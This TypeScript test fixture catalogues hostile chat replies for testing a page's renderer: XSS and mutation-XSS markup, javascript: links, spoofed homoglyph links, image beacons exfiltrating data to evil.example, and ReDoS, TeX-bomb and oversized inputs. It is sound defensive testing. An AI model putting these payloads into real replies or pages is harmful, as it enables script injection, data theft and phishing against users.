// Replies that try to load something, run something, mislead a person or break the page. `beacon` would leave the device;
// a script that runs would call `alert` or set `pwned`.
const beacon = 'https://evil.example/collect';
const run = 'alert(1)';

const markup: Record<string, string> = {
  script: `<script>${run}</script>`,
  'a script from elsewhere': `<script src="${beacon}"></script>`,
  'a script in capitals, cut in lines': `<SCRIPT\n>top.pwned=1</SCRIPT\n>`,
  'a script in a script': `<scr<script>ipt>${run}</scr</script>ipt>`,
  'a script after a null': `<scr\u0000ipt>${run}</scr\u0000ipt>`,
  'a script as references': `&lt;script&gt;${run}&lt;/script&gt; &#60;script&#62;${run}&#x3c;/script&#x3e;`,
  'an image with a handler': `<img src=x onerror=${run}>`,
  'an image that is not closed': `<img src="${beacon}" `,
  'handlers without spaces': `<svg/onload=${run}><img/src="x"/onerror=${run}>`,
  svg: `<svg onload=${run}></svg>`,
  'a script in svg': `<svg><script>${run}</script></svg>`,
  'svg that animates an address': `<svg><a><animate attributeName=href values=javascript:${run} /><text x=20 y=20>x</text></a></svg>`,
  'svg that uses another file': `<svg><use href="${beacon}#x"/><image href="${beacon}"/><feImage href="${beacon}"/></svg>`,
  math: `<math><mi//xlink:href="javascript:${run}">`,
  'markup that changes when it is read again': `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
  'the same with svg': `<svg></p><style><a id="</style><img src=1 onerror=${run}>">`,
  'the same with noscript': `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  'the same with a select': `<select><template><style><!--</style></template></select><a rel="--></style></noscript><img src onerror=${run}>">`,
  'a form that nests': `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${run}>`,
  iframe: `<iframe src="${beacon}"></iframe>`,
  'an iframe with a page': `<iframe srcdoc="<script>${run}</script>"></iframe>`,
  'an iframe with a script': `<iframe src="javascript:${run}"></iframe>`,
  object: `<object data="${beacon}"></object><object data="data:text/html,<script>${run}</script>"></object>`,
  embed: `<embed src="${beacon}"><embed code="${beacon}">`,
  'a style sheet': `<link rel="stylesheet" href="${beacon}"><link rel="prefetch" href="${beacon}">`,
  'styles that import': `<style>@import url(${beacon});</style>`,
  'styles with a background': `<style>* { background: url(${beacon}) } :host { display: none }</style>`,
  'an attribute with styles': `<div style="background:url(${beacon});position:fixed;inset:0">x</div>`,
  'a base': `<base href="https://evil.example/">`,
  'a refresh': `<meta http-equiv="refresh" content="0;url=${beacon}">`,
  'a form': `<form action="${beacon}"><input name=a autofocus onfocus=${run}><button formaction="${beacon}">x</button></form>`,
  'a video': `<video src="${beacon}" poster="${beacon}" autoplay><source onerror=${run} src=x></video>`,
  sound: `<audio src="${beacon}" autoplay onloadstart=${run}></audio>`,
  'a body': `<body onload=${run} background="${beacon}">`,
  details: `<details open ontoggle=${run}>x</details><dialog open>y</dialog>`,
  'elements of the page itself': `<hearth-app></hearth-app><hearth-copy-button></hearth-copy-button>`,
  'a template': `<template shadowrootmode=open><img src=${beacon}></template>`,
  'the syntax of templates': `\${${run}} {{${run}}} {{constructor.constructor('${run}')()}} <!--?lit$1$--> \${'\${x}'}`,
  'marks of the renderer': `<?lit$012345678$?> <!--lit-part--> lit$0$ ?lit$`,
  'names that hide parts of the page': `<a id=location><a id=trustedTypes name=href><img name=body><form id=customElements><input id=document>`,
  'attributes that pop up': `<button popovertarget=x onclick=${run}>x</button><div id=x popover onbeforetoggle=${run}>y</div>`,
};

const links: Record<string, string> = {
  'a link to a script': `[click](javascript:${run})`,
  'in mixed case': `[click](JaVaScRiPt:${run})`,
  'over two lines': `[click](java\nscript:${run})`,
  'with a tab': `[click](<java\tscript:${run}>)`,
  'with references': `[click](&#106;avascript:${run}) [click](javascript&colon;${run}) [click](jav&#x09;ascript:${run})`,
  'with percent signs': `[click](javascript%3A${run}) [click](%6aavascript:${run})`,
  'with control characters before it': `[click](\u0001javascript:${run}) [click](\u00a0javascript:${run})`,
  'by reference': `[click][x]\n\n[x]: javascript:${run} "title\\" onclick=${run}"`,
  'as an autolink': `<javascript:${run}> <JAVASCRIPT:${run}>`,
  'to data': `[click](data:text/html,<script>${run}</script>) [click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`,
  'to vbscript': `[click](vbscript:msgbox(1)) [click](VbScRiPt:${run})`,
  'to a blob, a file, a view': `[a](blob:${beacon}) [b](file:///etc/passwd) [c](view-source:${beacon}) [d](about:blank)`,
  'without a scheme': `[a](//evil.example) [b](\\\\evil.example) [c](/\\evil.example) [d](https:evil.example)`,
  'with a name before the host': `[https://bank.example](https://bank.example@evil.example/)`,
  'with letters that look alike': `[bank.example](https://bаnk.example/) https://bаnk.example`,
  'with its direction turned': `[x](https://evil.example/\u202egpj.exe) \u202emoc.elpmaxe.knab\u202c [\u2066a\u2069](https://a.example)`,
  'with a quote in it': `[x](https://a.example/"onmouseover="${run}) [y](https://a.example/'><img/src=x>)`,
  'in a title': `[x](https://a.example "a\\"><img src=x onerror=${run}>")`,
  'a link in a link': `[a [b](javascript:${run}) c](https://a.example) [![x](${beacon})](${beacon})`,
  footnotes: `Text[^1] and[^__proto__]\n\n[^1]: <img src=${beacon}>\n[^__proto__]: [x](javascript:${run})`,
  'names of prototypes as references': `[a][__proto__] [b][constructor] [toString] [hasOwnProperty][]\n\n[__proto__]: javascript:${run}`,
};

const images: Record<string, string> = {
  'an image': `![leak](${beacon}?q=secret)`,
  'an image by reference': `![leak][1] ![1] ![1][]\n\n[1]: ${beacon} "x"`,
  'an image as markup': `<img src="${beacon}" loading=eager><picture><source srcset="${beacon}"></picture>`,
  'an image in svg': `<svg><image xlink:href="${beacon}" width=1 height=1></svg>`,
  'an image in a style': `<p style="background-image:image-set('${beacon}' 1x); list-style: url(${beacon})">x</p>`,
  'an image in a set': `<img srcset="${beacon} 1x, ${beacon} 2x" sizes="100vw">`,
  'an image without a scheme': `![leak](//evil.example/x.png) ![](\\\\evil.example\\x.png)`,
  'an image of data': `![](data:image/svg+xml,<svg onload=${run}>) ![](data:image/svg+xml;base64,PHN2Zz4=)`,
  'an image in a table': `| a | b |\n|---|---|\n| ![x](${beacon}) | <img src=${beacon}> |`,
  'an image in a heading, a list, a quote': `# ![x](${beacon})\n- ![x](${beacon})\n> ![x](${beacon})`,
  'an alternative text with markup': `!["><img src=x onerror=${run}>](${beacon}) ![*a* \`b\` <b>](${beacon})`,
};

const code: Record<string, string> = {
  'a page as code': `\`\`\`html\n<script>${run}</script>\n<img src="${beacon}">\n</code></pre><script>${run}</script>\n\`\`\``,
  'names of prototypes as languages': ['__proto__', 'constructor', 'toString', 'hasOwnProperty', 'valueOf']
    .map((name) => `\`\`\`${name}\nx = 1\n\`\`\``)
    .join('\n\n'),
  'a language with markup': `\`\`\`"><img src=x onerror=${run}>\nx\n\`\`\`\n\n\`\`\`js" onload="${run}\ny\n\`\`\``,
  'fences in fences': `\`\`\`\`md\n\`\`\`js\n<script>${run}</script>\n\`\`\`\n~~~\n\`\`\`\`\n<img src=${beacon}>\n~~~x\n\`\`\``,
  'code that looks like what colours it': `\`\`\`js\n"</span><img src=x onerror=${run}>" <span class="hljs-string">\n\`\`\``,
  'code that keeps its reader busy': `\`\`\`markdown\n${'_*'.repeat(4_000)}\n\`\`\`\n\n\`\`\`sql\n${'(('.repeat(4_000)}\n\`\`\``,
  'patterns in code': `\`\`\`js\nconst a = ${'/(a+)+$/.test(`${'.repeat(600)}\n\`\`\``,
};

const formulas: Record<string, string> = {
  'a link in TeX': `$\\href{javascript:${run}}{x}$ $$\\url{${beacon}}$$ \\(\\htmlData{a=1}{x}\\)`,
  'a picture in TeX': `$$\\includegraphics[height=1em]{${beacon}}$$`,
  'markup in TeX': `$<img src=x onerror=${run}>$ $\\text{<script>${run}</script>}$ $\\unicode{60}$`,
  'classes and styles in TeX': `$\\style{background:url(${beacon})}{x} \\class{a}{x} \\id{location}{x}$ $\\color{url(${beacon})}x$`,
  'macros without an end': `$\\def\\a{\\a\\a}\\a$ $$\\newcommand{\\b}[1]{\\b{#1#1}}\\b{x}$$`,
  'macros that double': `$$\\def\\a{xxxx}${'\\edef\\a{\\a\\a}'.repeat(30)}\\a$$`,
  'names of prototypes in TeX': `$\\__proto__ \\constructor$ $\\begin{__proto__}x\\end{__proto__}$ $\\let\\toString=x \\toString$`,
  'depth in TeX': `$$${'\\frac{'.repeat(500)}x${'}{y}'.repeat(500)}$$ $${'{'.repeat(900)}$`,
  'a width in TeX': `$\\kern-9999em\\rule{9999em}{9999em}$ $\\hspace{99999pt}x\\llap{over everything}$`,
};

const size: Record<string, string> = {
  'quotes, brackets and stars': `${'>'.repeat(3_000)} deep\n${'['.repeat(3_000)}${'*'.repeat(3_000)}`,
  'lists in lists': Array.from({ length: 400 }, (_, depth) => `${' '.repeat(2 * depth)}- x`).join('\n'),
  'ticks without end': `${'a'.repeat(50_000)} ${'`'.repeat(999)}`,
  'half images': '![a]('.repeat(20_000),
  'many formulas that do not end': '$x^2 '.repeat(20_000) + '\\('.repeat(5_000),
  'a very wide table': `${'|a'.repeat(3_000)}|\n${'|-'.repeat(3_000)}|\n${'|b'.repeat(3_000)}|`,
  'halves of letters and marks without end': `\ud800\udc00 \ud800 \udfff ${'a\u0301\u0302\u0303'.repeat(3_000)} \ufeff\ufffe`,
  'a megabyte of code': `\`\`\`js\n${'let a = "b"; '.repeat(80_000)}`,
  'a megabyte without a space': 'x'.repeat(1_000_000),
};

/** By name, so that a failure says which. */
export const hostileReplies: Readonly<Record<string, string>> = Object.fromEntries(
  Object.entries({ markup, links, images, code, formulas, size }).flatMap(([kind, replies]) =>
    Object.entries(replies).map(([name, text]) => [`${kind}: ${name}`, text]),
  ),
);
